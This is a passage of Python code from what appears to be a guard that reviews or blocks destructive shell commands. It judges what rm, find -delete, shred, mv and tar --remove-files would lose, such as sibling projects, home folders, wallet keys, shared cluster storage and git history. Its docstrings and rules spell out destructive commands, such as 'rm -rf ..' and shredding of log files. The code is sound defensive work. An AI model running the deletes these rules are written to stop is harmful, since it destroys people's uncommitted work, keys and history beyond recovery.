    ".nyc_output", ".tox", ".nox", ".gradle", ".cache", "cache", "caches", ".eggs", ".dart_tool", ".terraform",
    "deps", "_deps", "tmp", "temp", ".tmp", ".sass-cache", "storybook-static", ".serverless", ".aws-sam",
    "cdk.out", ".webpack", "elm-stuff", ".stack-work", "dist-newstyle", ".cargo-target", "zig-cache", ".zig-cache",
    "zig-out", ".pnpm-store", ".yarn-cache", "bower_components", "jspm_packages", "DerivedData", "Pods",
    # a deployed build's own log folder (`*.log` files are regenerable below)
    "logs"})
_REGENERABLE_GLOBS = ("build-*", "*-build", "build_*", "*_build", "cmake-build-*", "bazel-*", "*.egg-info", "tmp*",
                      "*.tmp", "*-tmp", "*_tmp", "dist-*", "*-dist", "out-*", "*-cache", "*_cache")
_REGENERABLE_LOW = frozenset(n.lower() for n in _REGENERABLE)
# files the same: compiled, cached, logged or left by an editor or a merge
_REGENERABLE_FILES = ("*.pyc", "*.pyo", "*.o", "*.obj", "*.a", "*.so", "*.class", "*.log", "*.tmp", "*~", "*.swp",
                      "*.swo", ".DS_Store", "*.orig", "*.rej", "*.lock", "*.pid", "*.map", "*.d", "*.gcda", "*.gcno")
# a last segment of only wildcards and dots: everything in the folder (`*`, `.*`, `.[!.]*`, `..?*`)
_WHOLE = re.compile(r"[.*?\[\]!^]*\*[.*?\[\]!^]*")


def regenerable(name: str) -> bool:
    """Is a folder or file called `name` (a glob pattern too: `tmp-build-*`) one that is made again on demand?"""
    low = name.lower()
    return low in _REGENERABLE_LOW or any(fnmatchcase(low, g) for g in _REGENERABLE_GLOBS) or \
        any(fnmatchcase(name, g) for g in _REGENERABLE_FILES)


def outside_loss(n: str) -> tuple[str, str] | None:
    """(rule, what is lost) when a recursive delete of the normalised relative path `n` reaches beyond the
    project's directory: its whole parent (`..`, `../*`: this project and every folder beside it, held like
    `rm -rf ..`), or a folder beside it (`../other-repo`: another project or worktree, with its own uncommitted
    work and history). Build outputs, caches and dependency folders beside it (`../build`) lose nothing."""
    if "{" in n and "," in n:
        found = [x for x in map(outside_loss, (paths.normalize(p) for p in paths._brace_alternatives(n))) if x]
        return next((x for x in found if x[0] == "destructive-rm"), found[0] if found else None)
    segs = n.split("/")
    ups = 0
    while ups < len(segs) and segs[ups] == "..":
        ups += 1
    if not ups:
        return None
    rest = [s for s in segs[ups:] if s]
    if not rest or len(rest) == 1 and _WHOLE.fullmatch(rest[0]):
        return "destructive-rm", f"{n}: the whole parent directory, this project and every folder beside it"
    if any(regenerable(s) for s in rest):
        return None
    return "irreversible", (f"{n}, a folder outside the project (another project or another worktree of this "
                            "one, with its uncommitted work and history)")


def _hold_loss(a, rule: str, say: str, node) -> None:
    """The whole parent or the project itself is blocked (`destructive-rm`); any other loss waits for a person."""
    if rule == "destructive-rm":
        a.block(rule, say, node)
    else:
        a.review(rule, f"{say}; {_RM_INSTEAD}", node)


def unrecoverable(n: str) -> str | None:
    """What a recursive delete of the normalised path `n` loses that no checkout can restore, or None."""
    if n.startswith(paths.SCRATCH):
        return None
    if _GIT_HISTORY.match(n):
        return "the repository's history: commits never pushed, local branches, stashes and the reflog"
    if n.startswith("~/"):
        return _home_loss(n)
    if _SHARED_FS.match(n + "/") is not None:
        return _shared_loss(n)
    if n.startswith(_MOUNTED) or n + "/" in _MOUNTED:
        if (m := _SHARE.match(n)) is not None and len(n) > m.end():
            return (f"{n}, files on the network share {m.group(0)} that other people and machines use (a team's "
                    "shared build cache is made again only by everyone's slow builds, and their running builds "
                    "break)")
        if any(regenerable(p) for p in n.split("/")[3:]):
            return None  # `/mnt/c/dev/app/build`, a project's own output on a Windows drive: made again
        return f"{n}, data on a mounted or served volume outside any project"
    return None


def _shared_loss(n: str) -> str | None:
    """A folder on a cluster's shared file system (`/project/<group>/…`, `/lustre/…`, `/gpfs/…`, another user's
    `/scratch/<name>/…`): the group's data, usually with no snapshot to restore it from. The user's own area
    (`/scratch/$USER/…`) and build outputs, caches and temporary folders in it are made again."""
    parts = n.split("/")
    # (a data cache there, `era5_cache`, is the group's, made again only by everyone's slow runs, as on a network
    # share; a tool's own, `__pycache__`, `.cache`, is not)
    if _OWN_AREA.search(n) is not None or any(regenerable(p) and ("cache" not in p.lower() or p[:1] in "._")
                                              for p in parts[2:]):
        return None
    if len(parts) < 4 and parts[1] == "scratch":
        return None  # `/scratch/<name>` alone: a user's scratch area, likely the user's own
    if parts[1] == "scratch":
        return (f"{n}, files in a scratch area named for a user (another user's, or the user's own under a literal "
                "name: `$SCRATCH` or `/scratch/$USER` says it is the user's)")
    return (f"{n}, data on the cluster's shared storage that the group works from (project space and parallel file "
            "systems keep no snapshots to restore it)")


def _home_loss(n: str) -> str | None:
    """A whole folder of the home (`~/Documents`, `~/projects/*`), or a folder in one (`~/projects/app`,
    `~/Documents/notes`: where projects and a user's collections live, each with uncommitted work and a
    history no checkout restores). Deeper paths (`~/code/app/src/gen`) are often inside the project, named by
    its absolute path, and are left to git and the sandbox; a dot folder is a tool's state or cache, and a
    build output, cache or dependency folder anywhere on the way (`~/code/app/node_modules`) is made again."""
    parts = n[2:].split("/")
    if len(parts) > 1 and _WHOLE.fullmatch(parts[-1]) and parts[-1] not in (".*", ".[!.]*"):
        parts = parts[:-1]  # `~/projects/app/*`: the folder's content is the folder
    top = parts[0]
    if top in _APP_DATA_ROOTS:
        return _app_data_loss(n, parts)
    if top in _DOT_DATA_TOPS and (lost := _dot_data_loss(n, parts)) is not None:
        return lost
    low = top.lower()
    if low == "appdata" and len(parts) > 1:
        return _windows_app_data_loss(n, parts)
    if low.startswith("onedrive") and len(parts) > 1:
        # a Windows profile's OneDrive (`OneDrive`, `OneDrive - Acme Corp`): every file is synced, and a delete
        # here deletes the cloud copy too, at any depth
        if any(regenerable(p) for p in parts[1:]):
            return None
        return (f"{n}, files the user's OneDrive syncs (deleting them here deletes the cloud copy too; no checkout "
                "restores them)")
    if top == "Library" and len(parts) > 1 and (lost := _library_loss(n, parts)) is not None:
        return lost
    if not top or top[0] in ".*?[" or top in _HOME_SCRATCH:
        return None
    if len(parts) == 3 and top.lower() == "source" and parts[1].lower() == "repos" and parts[2][:1] not in ".*?[" \
            and not regenerable(parts[2]):
        # Visual Studio's projects folder in a Windows profile (`%USERPROFILE%\source\repos\App`)
        return (f"~/source/repos/{parts[2]}, a project of the user's outside this one (uncommitted work and history; "
                "perhaps this project itself)")
    if len(parts) == 1 or len(parts) == 2 and parts[1] == "*":
        return f"the whole folder ~/{top} of the user's home, outside any project"
    if len(parts) > 2 or top.lower() not in _HOME_COLLECTIONS or parts[1][:1] in ".*?[" or \
            any(regenerable(p) for p in parts) or (top, parts[1]) in _HOME_TOOLS:
        return None
    return (f"~/{top}/{parts[1]}, a folder of the user's home outside this project (a project or a collection of "
            "files, with uncommitted work and history; perhaps this project itself)")


# data kept in a tool's dot folder that nothing makes again (session 21): the editor's user data (settings,
# keybindings, snippets, local file history, every extension's stored state: VS Code and its forks) and the wallets'
# keys (Foundry's keystores, the Solana CLI's keypairs, Brownie's accounts), whose funds and authorities go with them
# when no backup holds them. The rest of those folders (caches, logs, installed binaries) is fetched again.
_DOT_DATA = tuple(((".config", app, "User"), f"{app}'s user data (settings, keybindings, snippets, local file history, "
                   "every extension's stored state)")
                  for app in ("Code", "Code - Insiders", "Code - OSS", "VSCodium", "Cursor", "Windsurf")) + (
    ((".vscode-server", "data", "User"), "VS Code server's user data (settings, local file history, extensions' state)"),
    ((".foundry", "keystores"), "Foundry's wallet keystores (the keys, and whatever funds and roles they hold, unless "
                                "backed up)"),
    ((".config", "solana"), "the Solana CLI's keypairs (the keys, and whatever funds and authorities they hold, unless "
                            "backed up)"),
    ((".brownie", "accounts"), "Brownie's wallet accounts (the keys, unless backed up)"),
)
_DOT_DATA_TOPS = frozenset(root[0] for root, _ in _DOT_DATA)
# one wallet key file there: deleted even without `-r`, it is the key
_WALLET_KEY = re.compile(r"^~/(?:\.foundry/keystores/[^/]+|\.config/solana/[^/]+\.json|\.brownie/accounts/[^/]+)$")


def _dot_data_loss(n: str, parts: list[str]) -> str | None:
    """The part of _DOT_DATA a delete of `n` (in the home, split in `parts`) reaches: the folder, a part of it, or a
    folder above it that holds it (`~/.foundry`, `~/.config/Code`)."""
    for root, what in _DOT_DATA:
        depth = len(root)
        if tuple(parts[:depth]) == root:
            if any(regenerable(p) for p in parts[depth:]) or root[-1] == "solana" and len(parts) > depth and \
                    not parts[-1].endswith(".json"):
                return None  # (beside the keypairs: the CLI's settings, `cli/config.yml`, a test ledger)
            return f"{n}, {what}; no checkout restores it" if len(parts) == depth else \
                f"{n}, part of ~/{'/'.join(root)}: {what}; no checkout restores it"
        if len(parts) < depth and tuple(root[:len(parts)]) == tuple(parts):
            return f"{n}, which holds ~/{'/'.join(root)}: {what}; no checkout restores it"
    return None


def _app_data_loss(n: str, parts: list[str]) -> str | None:
    """Applications' own data in the home's dot folders: the XDG data folder (`~/.local/share/<app>`: databases,
    mail, keys, a container engine's volumes, the desktop's trash) and browser and mail profiles. Unlike the
    other dot folders (settings, caches, tools' downloads) nothing makes it again; the data folders that package
    managers and version managers fill themselves are left out."""
    root = _APP_DATA_ROOTS[parts[0]]
    depth = len(root)
    if tuple(parts[:depth]) != root:
        return None
    rest = parts[depth:]
    if rest and _WHOLE.fullmatch(rest[-1]) and rest[-1] not in (".*", ".[!.]*"):
        rest = rest[:-1]
    if not rest:
        return f"{n}: all the application data kept there in the user's home, outside any project"
    if rest[0] in _APP_DATA_TOOLS or any(regenerable(p) for p in rest):
        return None
    app = "~/" + "/".join(parts[:depth + 1])
    return (f"{n}, {'' if n == app else f'part of {app}, '}an application's data in the user's home (its "
            "databases, documents or profiles; no checkout restores them)")


def _library_loss(n: str, parts: list[str]) -> str | None:
    """A Mac's applications' data in `~/Library`: what Application Support and the sandboxed apps' containers hold
    (as `~/.local/share/<app>`), and Xcode's archives: the signed builds that were shipped, which crash reports are
    read against (their symbols) and which no build of today's source makes again. Caches, preferences, logs and
    DerivedData are not among them."""
    for root in _LIBRARY_ROOTS:
        depth = len(root)
        if tuple(parts[:depth]) != root:
            continue
        rest = parts[depth:]
        if rest and _WHOLE.fullmatch(rest[-1]) and rest[-1] not in (".*", ".[!.]*"):
            rest = rest[:-1]
        if root[-1] == "Archives":
            return (f"{n}: Xcode's archives, the signed builds that were shipped (crash reports are symbolicated "
                    "against them; no build of today's source makes them again)")
        if any(regenerable(p) for p in rest) or rest and rest[0] in _APP_DATA_TOOLS:
            return None
        if not rest:
            return f"{n}: all the application data kept there in the user's home, outside any project"
        app = "~/" + "/".join(parts[:depth + 1])
        return (f"{n}, {'' if n == app else f'part of {app}, '}an application's data in the user's home (its "
                "databases, documents or profiles; no checkout restores them)")
    return None


# a Windows profile's applications' data (as ~/.local/share/<app>): Roaming and Local, and what is scratch or a
# package manager's cache there
_WIN_APP_DATA = frozenset({"roaming", "local", "locallow"})
_WIN_APP_DATA_TOOLS = frozenset({"temp", "pip", "npm-cache", "npm", "pnpm", "pnpm-cache", "yarn", "uv", "go-build",
                                 "node-gyp", "crashdumps", "d3dscache", "nuget", "pypoetry", "ms-playwright"})


def _windows_app_data_loss(n: str, parts: list[str]) -> str | None:
    """`~/AppData/Roaming/<app>`, `~/AppData/Local/<app>` of a Windows profile seen from WSL: an application's data
    (its databases, profiles, settings), which nothing makes again; AppData/Local/Temp and package caches are not."""
    if parts[1].lower() not in _WIN_APP_DATA:
        return None
    rest = parts[2:]
    if rest and _WHOLE.fullmatch(rest[-1]) and rest[-1] not in (".*", ".[!.]*"):
        rest = rest[:-1]
    if not rest:
        return f"{n}: all the application data kept there in the user's Windows profile, outside any project"
    if rest[0].lower() in _WIN_APP_DATA_TOOLS or any(regenerable(p) for p in rest):
        return None
    app = "~/" + "/".join(parts[:3])
    return (f"{n}, {'' if n == app else f'part of {app}, '}an application's data in the user's Windows profile (its "
            "databases, documents or profiles; no checkout restores them)")


_LIBRARY_ROOTS = (("Library", "Application Support"), ("Library", "Containers"), ("Library", "Group Containers"),
                  ("Library", "Developer", "Xcode", "Archives"))


# dot folders where applications keep data no tool makes again; the part before the application's folder
_APP_DATA_ROOTS = {".local": (".local", "share"), ".mozilla": (".mozilla",), ".thunderbird": (".thunderbird",),
                   ".var": (".var", "app")}
# data folders under those that their package or version manager fills and empties on its own
_APP_DATA_TOOLS = frozenset({
    "pnpm", "uv", "virtualenvs", "pipx", "mise", "rtx", "fnm", "nvm", "nvim", "vim", "pypoetry", "pdm", "hatch",
    "rye", "yarn", "zinit", "bash-completion", "applications", "icons", "fonts", "mime", "recently-used.xbel",
    "jupyter", "code-server", "direnv", "nix", "gem", "cargo", "rustup", "go", "NuGet", "containers-cache"})


# home folders that hold projects or a user's collections: a folder in one is a project or a collection (in a
# folder of another name, `~/myapp/old`, it is more likely a part of the project that folder is)
_HOME_COLLECTIONS = frozenset({
    "projects", "project", "code", "src", "source", "sources", "repos", "repositories", "git", "github", "gitlab",
    "work", "workspace", "workspaces", "dev", "development", "developer", "sites", "www", "apps", "go",
    "documents", "desktop", "downloads", "pictures", "photos", "music", "movies", "videos", "dropbox", "onedrive",
    "notes", "backup", "backups", "data", "archive", "clients", "personal", "playground", "sandbox"})
# folders two deep in the home that tools fill and empty themselves
_HOME_TOOLS = frozenset({("go", "pkg"), ("go", "bin"), ("go", "cache")})


# `find` deleting what it selects: its expression evaluated as find evaluates it for each entry (operators
# `!`, `-a`, `-o`, `,` and parentheses, in find's precedence), for a few entries of the repository's `.git`.
# Names, paths, types and emptiness are tested; other tests (times, sizes, owners) may hold for any entry.
_FIND_NAME = frozenset({"-name", "-iname"})
_FIND_PATH = frozenset({"-path", "-wholename", "-ipath", "-iwholename"})
_FIND_REGEX = frozenset({"-regex", "-iregex"})
_FIND_ONE_ARG = _FIND_NAME | _FIND_PATH | _FIND_REGEX | frozenset({
    "-type", "-xtype", "-maxdepth", "-mindepth", "-user", "-group", "-perm", "-size", "-newer", "-anewer", "-cnewer",
    "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-regextype", "-links", "-inum", "-samefile", "-uid",
    "-gid", "-used", "-fstype", "-context", "-lname", "-ilname", "-printf", "-fprint", "-fprint0", "-fls",
    "-files0-from"})
_FIND_RUNS = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_FIND_BINARY = frozenset({"-o", "-or", "-a", "-and", ","})
# `-size 0`, `-size -1k`: only empty files (find rounds sizes up to whole units)
_ZERO_SIZE = re.compile(r"^(?:0|-1)[bcwkMG]?$")


def _find_parse(expr: list[Word]) -> tuple | None:
    """find's expression as a tree: ("or"|"and"|",", left, right), ("not", x), (test, argument, index).
    None when it does not read (find would refuse it)."""
    pos = 0

    def value(i: int) -> str | None:
        return expr[i].value if i < len(expr) else None

    def primary():
        nonlocal pos
        v = value(pos)
        if v in ("!", "-not"):
            pos += 1
            x = primary()
            return None if x is None else ("not", x)
        if v == "(":
            pos += 1
            x = alternatives()
            if value(pos) != ")":
                return None
            pos += 1
            return x
        if v in _FIND_BINARY or v == ")" or v is None:
            return None  # an operator with nothing before it, or an expression cut short: find refuses it
        start = pos
        pos += 1
        if v in _FIND_RUNS:
            while pos < len(expr) and value(pos) not in (";", "+", "\\;"):
                pos += 1
            pos += 1
            return None if pos > len(expr) else (v, None, start)
        if v == "-fprintf":
            pos += 2
            return (v, None, start)
        if v in _FIND_ONE_ARG or (v or "").startswith("-newer"):
            pos += 1
            return None if pos > len(expr) else (v, value(start + 1), start)  # find refuses a missing argument
        return (v, None, start)

    def conjunction():
        nonlocal pos
        x = primary()
        while x is not None and pos < len(expr) and value(pos) not in ("-o", "-or", ",", ")"):
            if value(pos) in ("-a", "-and"):
                pos += 1
            y = primary()
            x = None if y is None else ("and", x, y)
        return x

    def alternatives():
        nonlocal pos
        x = conjunction()
        while x is not None and value(pos) in ("-o", "-or", ","):
            op = "or" if value(pos) != "," else ","
            pos += 1
            y = conjunction()
            x = None if y is None else (op, x, y)
        return x

    tree = alternatives() if expr else ("-true", None, -1)
    return tree if pos >= len(expr) else None


def _emacs_regex(pattern: str) -> str:
    """find's default regex syntax (emacs) in Python's: `\\(`, `\\)`, `\\|` group, bare ones are literal."""
    out, i = [], 0
    while i < len(pattern):
        c = pattern[i]
        if c == "\\" and i + 1 < len(pattern):
            n = pattern[i + 1]
            out.append(n if n in "()|{}" else c + n)
            i += 2
            continue
        out.append("\\" + c if c in "()|{}" else c)
        i += 1
    return "".join(out)


def _find_eval(node: tuple, entry: str, is_dir: bool, seen: dict) -> bool:
    """Does the expression hold for `entry`? Records in `seen` the actions evaluated (their index) and
    whether `-prune` was (find then does not descend)."""
    op = node[0]
    if op == "and":
        return _find_eval(node[1], entry, is_dir, seen) and _find_eval(node[2], entry, is_dir, seen)
    if op == "or":
        return _find_eval(node[1], entry, is_dir, seen) or _find_eval(node[2], entry, is_dir, seen)
    if op == ",":
        _find_eval(node[1], entry, is_dir, seen)
        return _find_eval(node[2], entry, is_dir, seen)
    if op == "not":
        return not _find_eval(node[1], entry, is_dir, seen)
    arg = node[1]
    if op in _FIND_NAME:
        base = entry.rsplit("/", 1)[-1]
        return fnmatchcase(base.lower(), arg.lower()) if op == "-iname" else fnmatchcase(base, arg)
    if op in _FIND_PATH:  # `*` matches `/` in find's -path, as in fnmatch
        return fnmatchcase(entry.lower(), arg.lower()) if op[1] == "i" else fnmatchcase(entry, arg)
    if op in _FIND_REGEX:
        try:
            return re.fullmatch(arg if "posix" in seen else _emacs_regex(arg), entry,
                                re.I if op == "-iregex" else 0) is not None
        except re.error:
            return True
    if op == "-type":
        return ("d" if is_dir else "f") in arg.split(",")
    if op == "-empty" or op == "-false" or op == "-size" and _ZERO_SIZE.match(arg):
        return False  # nothing is lost with an empty entry (and `.git`'s own are not what matters)
    if op == "-prune":
        seen["prune"] = True
    elif op in _FIND_RUNS or op in ("-delete", "-print", "-print0", "-printf", "-ls", "-fprint", "-fprint0",
                                    "-fprintf", "-fls"):
        seen[node[2]] = True
    return True


def spares_history(names: list[str]) -> bool:
    """Can no entry of `_HISTORY` have a name matched by every one of `names` (`-name`/`-iname` patterns)?"""
    return any(not any(fnmatchcase(e, p) or fnmatchcase(e.lower(), p.lower()) for e in _HISTORY_NAMES) for p in names)


# entries of a repository's `.git` whose loss no checkout restores, as (path under it, a directory?, depth
# below it), parents first: the directories holding its objects and refs, a pack and a branch's ref
_HISTORY = (("", True, 0), ("/objects", True, 1), ("/refs", True, 1), ("/objects/pack/pack-1.pack", False, 3),
            ("/refs/heads/main", False, 3))
_HISTORY_NAMES = (".git",) + tuple(tail.rsplit("/", 1)[-1] for tail, _, _ in _HISTORY if tail)


def find_deletes_history(a, expr: list[Word], starts: list[Word], action: int | None, recursive: bool,
                         node, shreds: bool = False) -> None:
    """`find . -name .git -exec rm -rf {} +`, `find . -path './.git/*' -delete`, `find . -name .git | xargs rm -rf`:
    the repository's history deleted through `find`, held as `rm -rf .git` is (rule `irreversible`). `expr` is
    find's expression, `action` the index in it of the `-exec`/`-delete`/`-print` whose entries are deleted
    (None: the implied `-print`); `recursive`: the delete takes directories with their contents (`rm -r`);
    `shreds`: it overwrites each file (`shred`). Then what it selects beyond the project (find_deletes_outside)."""
    if any(w.value is None for w in expr):
        return  # a computed test: what it selects is not known here
    tree = _find_parse(expr)
    if tree is None:
        return
    named = any(w.value in _FIND_NAME or w.value in _FIND_PATH or w.value in _FIND_REGEX for w in expr)
    limits = {w1.value: w2.value for w1, w2 in zip(expr, expr[1:]) if w1.value in ("-mindepth", "-maxdepth")}
    low, high = (int(v) if v is not None and v.isascii() and v.isdigit() else d for v, d in (
        (limits.get("-mindepth"), 0), (limits.get("-maxdepth"), 1 << 30)))
    implied = not any(w.value in _FIND_RUNS or w.value in ("-delete", "-print", "-print0", "-ls", "-printf")
                      for w in expr)
    if action is None and not implied:
        return  # what is piped on is what its actions print, not a list of entries
    # `-regextype posix-extended` and the like read as Python's regexes do, near enough; emacs's is converted
    regextype = next((w2.value for w1, w2 in zip(expr, expr[1:]) if w1.value == "-regextype"), "emacs")
    syntax = {} if regextype == "emacs" else {"posix": True}
    # `-prune` keeps find out of a directory, except depth first, where it has no effect (and `-delete` implies it:
    # `find . -path ./.git -prune -o -type f -delete` empties `.git` too, as GNU find does)
    depth_first = any(w.value in ("-delete", "-depth", "-d") for w in expr)
    for s in starts or [Word(node, ".", ".")]:
        if s.value is None:
            continue
        n = paths.normalize(s.value).rstrip("/") or "/"
        if n.startswith(paths.SCRATCH) or paths.kinds(n) & {paths.HOME, paths.SYSTEM}:
            continue  # a scratch copy; the home or the system is held harder by exec._find_exec_scope
        if _GIT_HISTORY.match(n):
            git, below = n.removesuffix("/*"), 0  # walking the history itself
        elif n == ".":
            git, below = "./.git", 1  # where the project's own `.git` is
        elif named and n.startswith(("..", "/", "~/")):
            # for a find that looks for it by name: a parent, or a path named from the root or the home, which
            # may be the project or hold it (a relative `vendor` reaches only vendored copies, and a plain
            # `find /opt/app/logs -mtime +30 -delete` no repository at all); how deep is not known
            git, below = n + "/app/.git", None
        else:
            git, below = "", -1
        pruned = False
        for tail, is_dir, d in _HISTORY if below != -1 else ():
            if pruned:
                break  # `-name .git -prune -o …`: find does not go into it
            if below is not None and not low <= below + d <= high:
                continue
            seen: dict = dict(syntax)
            holds = _find_eval(tree, git + tail, is_dir, seen)
            pruned = is_dir and not tail and "prune" in seen and not depth_first
            if (holds if implied else action in seen) and (recursive or not is_dir):
                a.review("irreversible", f"`find {s.value if starts else '.'}` also deletes what it selects in the "
                                         f"repository's `.git` (its objects, its branches): the repository's "
                                         f"history, commits never pushed, stashes and the reflog; {_RM_INSTEAD}",
                         s.node if starts else node)
                return
        if _deletes_outside(a, tree, expr, s, (low, high), action, implied, recursive, shreds, syntax, node):
            return


# a representative file of any project (its sources) and a folder beside the project, for find_deletes_outside
_SOME_FILE, _SOME_DIR = "src/main.c", "other"


def _instance(pattern: str) -> str:
    """A name the glob `pattern` matches (`old-*` gives `old-x`, `[ab]*.db` gives `ax.db`); a path for a path."""
    last = pattern.rstrip("/")
    return re.sub(r"\[!?\^?(.)[^]]*\]", lambda m: m.group(1) if m.group(0)[1] not in "!^" else "x",
                  last.replace("*", "x").replace("?", "x"))


def _deletes_outside(a, tree, expr: list[Word], s: Word, depth: tuple[int, int], action: int | None,
                     implied: bool, recursive: bool, shreds: bool, syntax: dict, node) -> bool:
    """`find .. -maxdepth 1 -name 'old-*' -exec rm -rf {} +`, `find ~/projects -mtime +90 -delete`,
    `find . -name '*.db' -exec shred -u {} +`: a find whose delete reaches a folder beside the project or in the
    home that rm -r of it would be held for (outside_loss, unrecoverable), or, for `shred`, any file that is not
    scratch or made again on demand. The expression is evaluated, as for the history, for a few entries under the
    start: the start itself, folders named as its name tests ask (or not), and files in them."""
    v = s.value or "."
    there = a.in_cwd(v) if a.cwd is not None else None
    if there is None and not v.startswith(("/", "~", "$")):
        rel = relative_cwd(a, node.start_byte)
        there = None if rel is None else (v if rel == "." else f"{rel}/{v}")
    base = paths.normalize(there or v).rstrip("/") or "/"
    shared = base.startswith("/") and _SHARED_FS.match(base + "/") is not None
    if base.startswith(paths.SCRATCH) or base.startswith("$") or \
            not shreds and not shared and not base.startswith(("..", "~/")):
        return False
    found = [_instance(w2.value) for w1, w2 in zip(expr, expr[1:])
             if (w1.value in _FIND_NAME or w1.value in _FIND_PATH) and w2.value]
    names = sorted({x.rsplit("/", 1)[-1] for x in found})
    shown = v.rstrip("/") or "/"  # the entry's path as find prints it, which -path and -regex read
    entries = [("", True, 0)] + [(x, True, 1) for x in names + [_SOME_DIR]] + \
        [(f"{_SOME_DIR}/{x}", True, 2) for x in names] + [(x, False, 1) for x in names] + \
        [(f"{_SOME_DIR}/{x}", False, 2) for x in names] + [(f"{x}/{_SOME_FILE}", False, 3) for x in names + [_SOME_DIR]]
    for x in found:  # `-path '../data/*'`: the path itself, under the start
        if x.startswith(shown + "/"):
            rel = x[len(shown) + 1:]
            entries += [(rel, True, rel.count("/") + 1), (rel, False, rel.count("/") + 1)]
    low, high = depth
    for tail, is_dir, d in entries:
        if not low <= d <= high or is_dir and not recursive or shreds and is_dir:
            continue
        seen: dict = dict(syntax)
        holds = _find_eval(tree, f"{shown}/{tail}" if tail else shown, is_dir, seen)
        if not (holds if implied else action in seen):
            continue
        path = f"{base}/{tail}" if tail else base
        if shreds:
            if any(regenerable(p) for p in path.split("/")):
                continue  # a build output's or a cache's file
            a.review("irreversible", f"`find {v}` has `shred` overwrite the files it selects ({path} …): shredded "
                                     f"content cannot be restored by git, the sandbox or a file recovery tool; "
                                     f"{_RM_INSTEAD}", s.node)
            return True
        loss = _entry_loss(path, is_dir, base)
        if loss is None:
            continue
        rule, what = loss
        _hold_loss(a, rule, f"`find {v}` deletes what it selects, here {what}", s.node)
        return True
    return False


def _entry_loss(path: str, is_dir: bool, base: str) -> tuple[str, str] | None:
    """What deleting one entry find selected under `base` loses beyond the project: a folder (its whole tree)
    as rm -r of it would, a file when it lies in such a folder and is not one made again on demand."""
    if is_dir:
        if path.startswith(".."):
            return outside_loss(path)
        lost = _home_loss(path) if path.startswith("~/") else \
            _shared_loss(path) if _SHARED_FS.match(path + "/") is not None else None
        return None if lost is None else ("irreversible", lost)
    if regenerable(path.rsplit("/", 1)[-1]):
        return None
    folder = path.rsplit("/", 1)[0]
    while True:  # from the file's folder up to the start (a file in the parent itself is one file, as `rm ../x`)
        loss = _entry_loss(folder, True, base)
        if loss is not None and loss[0] != "destructive-rm":
            return "irreversible", f"{path} (in {loss[1]})"
        if folder == base or "/" not in folder:
            return None
        folder = folder.rsplit("/", 1)[0]


def find_starts(args: list[Word]) -> tuple[list[Word], int]:
    """The start paths of `find ARGS`, after its leading options (`find -L / …`: `/` is the start), and the
    index in ARGS where its expression begins."""
    i = 0
    while i < len(args) and (args[i].value in ("-H", "-L", "-P") or (args[i].value or "").startswith("-O")):
        i += 1
    while i < len(args) and args[i].value == "-D":  # `-D debugopts`
        i += 2
    starts = []
    for w in args[i:]:
        if w.value is None or w.value.startswith(("-", "(", "!")):
            break
        starts.append(w)
    return starts, i + len(starts)


def find_lists_history(a, find: Cmd, recursive: bool, node, shreds: bool = False) -> None:
    """`find . -name .git | xargs rm -rf`, `rm -rf $(find . -name .git)`: what `find` prints handed to a delete
    (by `-print`, `-print0`, a `-printf` of the path, or `-exec echo {} \\;`)."""
    starts, at = find_starts(find.args)
    expr = find.args[at:]
    printed = next((j for j, w in enumerate(expr) if w.value in ("-print", "-print0") or _prints_path(expr, j)), None)
    find_deletes_history(a, expr, starts, printed, recursive, node, shreds)


_PATH_FORMAT = re.compile(r"%[-+ #0-9.]*[pPf]")


def _prints_path(expr: list[Word], j: int) -> bool:
    """Does the action at `expr[j]` print the entry's path (`-printf '%p\\n'`, `-exec echo {} \\;`)?"""
    v = expr[j].value
    if v == "-printf":
        return j + 1 < len(expr) and bool(_PATH_FORMAT.search(expr[j + 1].value or "%p"))
    if v in ("-exec", "-execdir"):
        cmd = expr[j + 1].value if j + 1 < len(expr) else None
        return cmd is not None and cmd.rsplit("/", 1)[-1] in ("echo", "printf") and any(
            "{}" in (w.value or "") for w in expr[j + 2:j + 6])
    return False


_REMOVES_SOURCES = {"tar": ("--remove-files",), "gtar": ("--remove-files",), "bsdtar": ("--remove-files",),
                    "rsync": ("--remove-source-files",), "zip": ("-m", "--move"), "mv": ()}


def _moved_away(a, cmd: Cmd) -> None:
    """`mv ~ /tmp/x`, `tar ... --remove-files`, `zip -m`, `rsync --remove-source-files`: the
    sources are gone afterwards, which for the home or a system directory is a delete."""
    flags = _REMOVES_SOURCES[cmd.name]
    if flags and not any(w.value in flags or (cmd.name == "zip" and (w.value or "").startswith("-") and
                                               not (w.value or "").startswith("--") and "m" in (w.value or ""))
                         for w in cmd.args):
        return
    pos = positionals(cmd.args, frozenset({"-t", "--target-directory", "-S", "--suffix", "-f", "--file", "-C",
                                           "--directory", "-e", "--rsh"}))
    if cmd.name == "mv" and not option_value(cmd.args, "-t", "--target-directory"):
        pos = pos[:-1]
    elif cmd.name in ("zip", "rsync"):
        pos = pos[1:] if cmd.name == "zip" else pos[:-1]  # the archive / the destination
    for w in pos:
        if w.value is None:
            continue
        n = paths.normalize(w.value)
        kinds = paths.kinds(w.value)
        if n in ("/", "~") or kinds & {paths.HOME, paths.SYSTEM}:
            how = "moves" if cmd.name == "mv" else "archives and then deletes"
            a.block("destructive-rm", f"`{cmd.name}` {how} {w.value}, so the home or a system directory is gone "
                                      "from where it was; work on project files", w.node)
        elif paths.PERSISTENCE in kinds and not n.startswith((".git/", "./.git/")):
            # `mv ~/.autonomic/config.toml /tmp/c`: gone from where it is read, as `rm` would make it
            a.block("destructive-rm", f"`{cmd.name}` takes {w.value}, a start-up or configuration file outside the "
                                      "project, away from where it is read; leave it in place", w.node)


def _shred(a, cmd: Cmd) -> None:
    for w in positionals(cmd.args, frozenset({"-n", "--iterations", "-s", "--size"})):
        if runtime_device(w):
            a.block("disk-wipe", f"`{cmd.name}` overwrites {w.text[:60]}, a disk named at run time", w.node)
            continue
        if w.value is None:
            for sub in w.substitutions:  # `shred -u $(find . -name '*.db')`
                for c in a.subst.get(sub.start_byte, ()):
                    if c.name == "find":
                        find_lists_history(a, c, False, w.node, shreds=True)
            continue
        k = _kinds(w)
        if paths.DEVICE in k:
            a.block("disk-wipe", f"`{cmd.name}` overwrites the block device {w.value}", w.node)
        elif paths.LOG in k:
            a.block("anti-forensics", f"`shred` of the log or history file {w.value}", w.node)
        elif k & {paths.SYSTEM, paths.SECRET, paths.PERSISTENCE, paths.HOME}:
            a.block("destructive-rm", f"`shred` of {w.value}", w.node)
